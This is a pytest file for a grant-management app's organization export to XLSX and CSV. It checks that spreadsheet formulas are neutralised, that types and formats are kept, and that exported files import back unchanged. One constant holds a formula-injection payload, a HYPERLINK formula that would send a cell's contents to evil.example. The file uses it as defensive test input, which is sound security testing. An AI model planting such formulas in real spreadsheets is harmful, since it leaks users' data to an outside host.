"""The organizations list written to XLSX and CSV: reopened, parsed back, never a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from grantdesk.db.models import Theme
from grantdesk.domain.vocab import LegalForm
from grantdesk.exports.tabular import ExportColumn, write_csv, write_xlsx
from grantdesk.i18n import set_language
from grantdesk.imports.organizations import parse_organizations
from grantdesk.services import listing
from grantdesk.services.organization_export import (
    ExportFormatError,
    export_organizations,
    format_for,
)
from grantdesk.services.organization_import import import_organizations
from tests.helpers import factories as f

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Clicca qui")'


@pytest.fixture
def filled(db: Any) -> Any:
    with db.transaction() as s:
        themes = [Theme(name="anziani"), Theme(name="povertà")]
        f.organization(
            s,
            "Argento Vivo ODV",
            LegalForm.ODV,
            codice_fiscale="90945370188",
            runts_number="106669",
            runts_registered_on=date(2024, 11, 8),
            iban="IT17C0306911884983185031197",
            municipality="Vigevano",
            province="PV",
            region="Lombardia",
            volunteers=85,
            staff=1,
            phone="+39 0381 123456",
            notes="@riunione mensile\nseconda riga",
            themes=themes,
        )
        f.organization(s, EVIL, LegalForm.APS, municipality="Università di Pavia")
        f.organization(s, "-Comitato senza sede", LegalForm.INFORMAL_GROUP, municipality="Mede")
        f.organization(s, "Cooperativa Sociale KCS", LegalForm.SOCIAL_ENTERPRISE,
                       municipality="Vigevano")  # fmt: skip
    return db


def test_the_xlsx_reopens_with_a_neutralised_formula_and_real_types(
    filled: Any, tmp_path: Path
) -> None:
    path = tmp_path / "enti.xlsx"
    result = export_organizations(filled, path)
    assert (result.count, result.format) == (4, "xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Organizations" and sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Name", "Legal form", "Tax code"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.auto_filter.ref == f"A1:T{sheet.max_row}"
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    evil = rows["'" + EVIL]  # the formula came out as text with an apostrophe in front
    assert evil[0].data_type == "s"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    assert "'-Comitato senza sede" in rows
    argento = {h: c for h, c in zip(header, rows["Argento Vivo ODV"], strict=True)}
    assert argento["RUNTS registration date"].value.date() == date(2024, 11, 8)
    assert argento["RUNTS registration date"].number_format == "DD/MM/YYYY"
    assert argento["Volunteers"].value == 85 and argento["Volunteers"].data_type == "n"
    assert argento["Tax code"].value == "90945370188"  # text: no leading zero could be lost
    assert argento["IBAN"].value == "IT17 C030 6911 8849 8318 5031 197"
    assert argento["Phone"].value == "'+39 0381 123456"
    assert argento["Notes"].value == "'@riunione mensile\nseconda riga"
    assert argento["Themes"].value == "anziani; povertà"
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["A"] > widths["C"] >= 13  # the name column is the widest here


def test_the_csv_has_a_bom_semicolons_and_parses_back(filled: Any, tmp_path: Path) -> None:
    path = tmp_path / "enti.csv"
    export_organizations(filled, path, search="vigevano")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfName;Legal form;Tax code;")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    names = [r[0] for r in rows[1:]]
    assert names == ["Argento Vivo ODV", "Cooperativa Sociale KCS"]  # the list's order
    argento = dict(zip(rows[0], rows[1], strict=True))
    assert argento["RUNTS registration date"] == "08/11/2024"
    assert argento["Legal form"] == "ODV – volunteer organisation"
    assert argento["Notes"] == "'@riunione mensile\nseconda riga"


def test_the_search_is_the_lists_search(filled: Any, tmp_path: Path) -> None:
    path = tmp_path / "enti.csv"
    # Accents ignored, as in the window: "universita" finds "Università".
    assert export_organizations(filled, path, search="universita").count == 1
    listed = [r.values[0] for r in listing.fetch_rows(filled, "organizations", search="o")]
    export_organizations(filled, path, search="o")
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0].removeprefix("'") for r in rows[1:]] == listed
    assert export_organizations(filled, path, search="nessuno-qui").count == 0
    assert len(path.read_text("utf-8-sig").splitlines()) == 1  # the header only


@pytest.mark.parametrize("lang", ["en", "it"])
@pytest.mark.parametrize("name", ["enti.xlsx", "enti.csv"])
def test_an_export_imported_again_changes_nothing(
    filled: Any, tmp_path: Path, lang: str, name: str
) -> None:
    set_language(lang)
    path = tmp_path / name
    export_organizations(filled, path)
    parsed = parse_organizations(path.read_bytes())
    assert parsed.ignored_columns == []
    report = import_organizations(filled, parsed.records, source=name)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 4)


def test_italian_headers_and_sheet_name(filled: Any, tmp_path: Path) -> None:
    set_language("it")
    path = tmp_path / "enti.xlsx"
    export_organizations(filled, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "Enti"
    assert [c.value for c in sheet[1]][:4] == ["Nome", "Forma giuridica", "Codice fiscale",
                                                "Partita IVA"]  # fmt: skip


def test_money_and_dates_are_numbers_with_formats(tmp_path: Path) -> None:
    columns = [ExportColumn("Voce"), ExportColumn("Importo", "money"), ExportColumn("Il", "date")]
    rows = [["+ spese generali", Decimal("1234.56"), date(2026, 3, 31)], ["x", None, None]]
    write_xlsx(tmp_path / "m.xlsx", columns, rows, sheet_title="Budget: voci/2026")
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    assert sheet.title == "Budget  voci 2026"  # Excel refuses ':' and '/' in sheet names
    amount = sheet["B2"]
    assert amount.data_type == "n" and amount.value == pytest.approx(1234.56)
    assert "€" in amount.number_format and "#,##0.00" in amount.number_format
    assert sheet["A2"].value == "'+ spese generali"
    write_csv(tmp_path / "m.csv", columns, rows)
    assert (tmp_path / "m.csv").read_text("utf-8-sig").splitlines()[1] == (
        "'+ spese generali;1234,56;31/03/2026"
    )


def test_a_failed_export_leaves_no_partial_file(filled: Any, tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / "enti.xlsx"
    path.write_bytes(b"the previous export")

    def broken(done: int, total: int) -> None:
        if done > total // 2:
            raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        export_organizations(filled, path, progress=broken)
    assert path.read_bytes() == b"the previous export"
    assert sorted(p.name for p in folder.iterdir()) == ["enti.xlsx"]
    with pytest.raises(OSError):
        export_organizations(filled, tmp_path / "missing" / "enti.csv")
    with pytest.raises(ExportFormatError):
        format_for(Path("enti.ods"))
